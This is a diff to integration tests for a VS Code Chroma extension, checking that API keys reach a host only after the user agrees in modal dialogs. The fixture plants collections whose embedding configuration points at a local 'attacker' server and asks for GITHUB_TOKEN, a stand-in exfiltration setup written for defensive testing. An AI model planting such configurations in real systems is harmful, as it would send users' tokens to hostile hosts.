@@ -1,4 +1,7 @@
 import * as assert from 'node:assert/strict';
+import { createServer } from 'node:http';
+import type { IncomingHttpHeaders, Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import * as vscode from 'vscode';
 import { ChromaClient } from '../../src/chroma';
 import type { QueryResult } from '../../src/chroma';
@@ -7,7 +10,59 @@ import { createDefaultEmbeddingFunction } from '../../src/embedding/defaultFunct
 import type { CollectionNode, DatabaseNode } from '../../src/model/explorer';
 import { ChromaServer } from '../support/chromaServer';
 import { QuickInputDriver } from './quickInputDriver';
-import { activateApi, clearConnections, installTinyModel, until } from './support';
+import { activateApi, captureMessages, clearConnections, installTinyModel, until } from './support';
+
+/** A host a collection's configuration points at: answers like OpenAI's embeddings API and records every request. */
+class Attacker {
+  readonly seen: IncomingHttpHeaders[] = [];
+  private constructor(private readonly server: Server) {}
+
+  static async start(): Promise<Attacker> {
+    const server = createServer();
+    const a = new Attacker(server);
+    server.on('request', (req, res) => {
+      let raw = '';
+      req.on('data', (c: Buffer) => (raw += c.toString()));
+      req.on('end', () => {
+        a.seen.push(req.headers);
+        const input = (JSON.parse(raw || '{}') as { input?: string[] }).input ?? [];
+        res.writeHead(200, { 'content-type': 'application/json' });
+        res.end(JSON.stringify({ data: input.map((_, index) => ({ index, embedding: [0.1, 0.2, 0.3] })) }));
+      });
+    });
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+    return a;
+  }
+
+  get origin(): string {
+    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
+  }
+
+  stop(): Promise<void> {
+    return new Promise((r) => this.server.close(() => r()));
+  }
+}
+
+/**
+ * Answers the extension's modal warnings in turn from `answers` (undefined = Cancel), recording each message, its
+ * modal flag and its buttons. A modal dialog blocks the window and cannot be clicked from the extension host, so
+ * this stands in for the click at the VS Code API the extension calls.
+ */
+function answerModalsInTurn(answers: Array<string | undefined>): { asked: Array<{ message: string; modal: boolean; buttons: string[] }>; dispose(): void } {
+  const w = vscode.window as unknown as Record<string, unknown>;
+  const original = vscode.window.showWarningMessage;
+  const out = {
+    asked: [] as Array<{ message: string; modal: boolean; buttons: string[] }>,
+    dispose: () => {
+      w.showWarningMessage = original;
+    },
+  };
+  w.showWarningMessage = (message: string, options?: vscode.MessageOptions, ...buttons: string[]) => {
+    out.asked.push({ message, modal: options?.modal === true, buttons });
+    return Promise.resolve(answers.shift());
+  };
+  return out;
+}
 
 const DOCS = ['the cat sat on the mat', 'chroma is a vector database for embeddings', 'python and node client code', 'hello world'];
 
@@ -68,5 +123,109 @@ describe('embedding: query a collection with its own embedding function, in real
       driver.dispose();
       await vscode.commands.executeCommand('workbench.action.closeAllEditors');
     }
+  });
+
+  describe('keys go only where the user agreed', () => {
+    let attacker: Attacker;
+    let other: Attacker;
+    const saved: Record<string, string | undefined> = {};
+    const VARS = ['GITHUB_TOKEN', 'CHROMA_OPENAI_API_KEY', 'OPENAI_API_KEY'];
+    before(async () => {
+      attacker = await Attacker.start();
+      other = await Attacker.start();
+      for (const v of VARS) {
+        saved[v] = process.env[v];
+        delete process.env[v];
+      }
+      const client = new ChromaClient({ url: server.url });
+      const openai = (api_base: string, extra: Record<string, unknown> = {}) => ({
+        embedding_function: { type: 'known', name: 'openai', config: { model_name: 'text-embedding-3-small', api_base, ...extra } },
+      });
+      await client.createCollection({ name: 'exfil', configuration: openai(`${attacker.origin}/v1`, { api_key_env_var: 'GITHUB_TOKEN' }) });
+      await client.createCollection({ name: 'typed-key', configuration: openai(`${other.origin}/v1`, { api_key_env_var: 'OPENAI_API_KEY' }) });
+      await client.createCollection({ name: 'typed-key-elsewhere', configuration: openai(`${attacker.origin}/v1`, { api_key_env_var: 'OPENAI_API_KEY' }) });
+    });
+    after(async () => {
+      for (const v of VARS) {
+        if (saved[v] === undefined) {
+          delete process.env[v];
+        } else {
+          process.env[v] = saved[v];
+        }
+      }
+      await attacker?.stop();
+      await other?.stop();
+    });
+
+    it('{openai, api_base: another host, api_key_env_var: GITHUB_TOKEN}: Query… sends nothing until the user allows it in modals, then only that key', async () => {
+      process.env.GITHUB_TOKEN = 'ghp_host_test_secret';
+      const node = await collection('exfil');
+      const messages = captureMessages();
+      const cancel = answerModalsInTurn([undefined]);
+      try {
+        const result = await vscode.commands.executeCommand<QueryResult | undefined>(Commands.queryCollection, node, 'secret plans');
+        assert.equal(result, undefined);
+      } finally {
+        cancel.dispose();
+        messages.dispose();
+      }
+      assert.deepEqual(cancel.asked, [{ message: 'Collection "exfil" asks to read the environment variable GITHUB_TOKEN as its openai key.', modal: true, buttons: ['Allow'] }]);
+      assert.equal(attacker.seen.length, 0);
+      assert.match(messages.errors.at(-1) ?? '', /^Nothing was sent: reading GITHUB_TOKEN as the openai key was not allowed\./);
+      assert.ok(!messages.errors.some((m) => m.includes('ghp_host_test_secret')));
+
+      const allow = answerModalsInTurn(['Allow', 'Allow']);
+      try {
+        const result = await vscode.commands.executeCommand<QueryResult>(Commands.queryCollection, node, 'secret plans');
+        assert.deepEqual(result.ids, [[]]);
+      } finally {
+        allow.dispose();
+      }
+      assert.deepEqual(
+        allow.asked.map((a) => `${a.message} modal=${String(a.modal)} ${a.buttons.join('/')}`),
+        [
+          'Collection "exfil" asks to read the environment variable GITHUB_TOKEN as its openai key. modal=true Allow',
+          `Collection "exfil" asks to send the key from GITHUB_TOKEN to ${attacker.origin}. modal=true Allow`,
+        ],
+      );
+      assert.equal(attacker.seen.length, 1);
+      assert.equal(attacker.seen[0].authorization, 'Bearer ghp_host_test_secret');
+
+      // Remembered in globalState: no more dialogs.
+      const again = answerModalsInTurn([]);
+      try {
+        await vscode.commands.executeCommand<QueryResult>(Commands.queryCollection, node, 'more plans');
+      } finally {
+        again.dispose();
+      }
+      assert.equal(again.asked.length, 0);
+      assert.equal(attacker.seen.length, 2);
+      await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+    });
+
+    it('a key typed for one host is kept for that host only: another host asks again, and Cancel sends nothing', async () => {
+      const driver = new QuickInputDriver();
+      const before = attacker.seen.length;
+      try {
+        const done = vscode.commands.executeCommand<QueryResult>(Commands.queryCollection, await collection('typed-key'), 'hello');
+        const typed = await driver.input('sk-typed-for-other');
+        assert.match(typed.prompt ?? '', new RegExp(`^Collection "typed-key" sends this key to ${other.origin.replace(/\./g, '\\.')}\\.`));
+        await done;
+        assert.equal(other.seen.at(-1)?.authorization, 'Bearer sk-typed-for-other');
+        // Saved: the same collection asks nothing the second time.
+        await vscode.commands.executeCommand<QueryResult>(Commands.queryCollection, await collection('typed-key'), 'hello again');
+        assert.equal(other.seen.at(-1)?.authorization, 'Bearer sk-typed-for-other');
+
+        const elsewhere = vscode.commands.executeCommand<QueryResult | undefined>(Commands.queryCollection, await collection('typed-key-elsewhere'), 'hello');
+        const box = (await driver.next()) as vscode.InputBox;
+        assert.match(box.prompt ?? '', new RegExp(`sends this key to ${attacker.origin.replace(/\./g, '\\.')}\\.`));
+        await vscode.commands.executeCommand('workbench.action.closeQuickOpen');
+        assert.equal(await elsewhere, undefined);
+        assert.equal(attacker.seen.length, before);
+      } finally {
+        driver.dispose();
+        await vscode.commands.executeCommand('workbench.action.closeAllEditors');
+      }
+    });
   });
 });
